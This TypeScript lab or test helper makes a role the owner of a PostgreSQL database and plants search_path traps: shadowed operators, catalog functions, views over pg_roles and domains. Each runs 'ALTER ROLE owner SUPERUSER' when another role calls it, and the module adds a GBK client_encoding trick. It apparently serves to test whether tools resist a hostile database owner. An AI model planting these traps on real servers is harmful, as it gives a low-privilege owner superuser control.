import { escapeIdentifier, escapeLiteral } from 'pg';
import type { AppRole } from '../../scripts/lab/database/app-role.ts';
import type { PostgresServer } from '../../scripts/lab/database/server.ts';

/** What an owner of a database may do to whoever comes along: every name that stands for another thing than it seems. */
export interface Traps {
  /** Where they lie: a schema that ALTER DATABASE puts first, or the one in everybody's search path. */
  readonly in: 'a schema put first' | 'public';
}

/** What came of the traps: how often one was sprung, and whether their owner has become a superuser by it. */
export interface Catch {
  readonly sprung: number;
  readonly superuser: boolean;
}

const SCHEMAS = { 'a schema put first': 'evil', public: 'public' } as const;

/** Makes the role the database's owner, who then sets the traps. */
export async function setTraps(
  server: PostgresServer,
  database: string,
  owner: AppRole,
  { in: place }: Traps,
): Promise<void> {
  const [name, role] = [database, owner.name].map(escapeIdentifier);
  await server.query(`ALTER DATABASE ${name} OWNER TO ${role}`);
  const schema = SCHEMAS[place];
  const login = { user: owner.name, password: owner.password, database };
  await server.query(trapsIn(schema, role ?? ''), undefined, login);
  // In GBK the last byte of a character may be that of a backslash.
  await server.query(`ALTER DATABASE ${name} SET client_encoding = 'GBK'`, undefined, login);
  if (schema !== 'public')
    await server.query(`ALTER DATABASE ${name} SET search_path = ${schema}, pg_catalog`, undefined, login);
}

export async function caughtIn(
  server: PostgresServer,
  database: string,
  owner: AppRole,
  { in: place }: Traps,
): Promise<Catch> {
  const [count] = await server.pinnedQuery<{ sprung: number }>(
    `SELECT CASE WHEN is_called THEN last_value::int ELSE 0 END AS sprung FROM ${SCHEMAS[place]}.sprung`,
    { database },
  );
  const [role] = await server.pinnedQuery<{ superuser: boolean }>(
    `SELECT rolsuper AS superuser FROM pg_roles WHERE rolname = ${escapeLiteral(owner.name)}`,
  );
  return { sprung: count?.sprung ?? 0, superuser: role?.superuser ?? false };
}

/** A sequence counts, since what it has counted survives a ROLLBACK. */
const trapsIn = (schema: string, owner: string) => `
  CREATE SCHEMA IF NOT EXISTS ${schema};
  ${schema === 'public' ? '' : `GRANT USAGE ON SCHEMA ${schema} TO PUBLIC;`}
  CREATE SEQUENCE ${schema}.sprung;
  GRANT ALL ON SEQUENCE ${schema}.sprung TO PUBLIC;

  CREATE FUNCTION ${schema}.spring(trap text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $spring$ BEGIN
    PERFORM nextval('${schema}.sprung');
    RAISE LOG 'a trap is sprung by %: %', current_user, trap;
    BEGIN
      ALTER ROLE ${owner} SUPERUSER;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
  END $spring$;

  DO $traps$ DECLARE
    types text[] := '{name,text,oid,regclass,int4,int8,bool,"\\"char\\""}';
    operator text; l text; r text; f record; relation text; type text;
  BEGIN
    FOREACH l IN ARRAY types LOOP FOREACH r IN ARRAY types LOOP
      EXECUTE format($f$CREATE FUNCTION ${schema}.compare(%s, %s) RETURNS boolean LANGUAGE plpgsql AS
        $b$ BEGIN RETURN ${schema}.spring('operator of %1$s and %2$s'); END $b$ $f$, l, r);
      FOREACH operator IN ARRAY '{=,<>,<,<=,>,>=,~,!~,||}'::text[] LOOP
        EXECUTE format('CREATE OPERATOR ${schema}.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = ${schema}.compare)', operator, l, r);
      END LOOP;
    END LOOP; END LOOP;

    FOR f IN SELECT p.oid, proname, pg_get_function_identity_arguments(p.oid) AS arguments, pg_get_function_result(p.oid) AS result
      FROM pg_proc p
      WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset
        AND proname = ANY ('{current_database,current_setting,pg_describe_object,pg_conf_load_time,pg_reload_conf,quote_ident}')
    LOOP
      EXECUTE format($f$CREATE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS
        $b$ BEGIN PERFORM ${schema}.spring('function %1$s'); RETURN NULL; END $b$ $f$, f.proname, f.arguments, f.result);
    END LOOP;

    FOREACH relation IN ARRAY '{pg_roles,pg_auth_members,pg_shdepend,pg_database,pg_settings,pg_tables}'::text[] LOOP
      EXECUTE format($f$CREATE VIEW ${schema}.%I AS SELECT r.* FROM pg_catalog.%1$I r
        WHERE ${schema}.spring('relation %1$s')$f$, relation);
      EXECUTE format('GRANT SELECT ON ${schema}.%I TO PUBLIC', relation);
    END LOOP;

    FOREACH type IN ARRAY '{text,name,oid,regclass}'::text[] LOOP
      EXECUTE format($f$CREATE DOMAIN ${schema}.%I AS pg_catalog.%1$I CHECK (${schema}.spring('type %1$s'))$f$, type);
    END LOOP;
  END $traps$`;
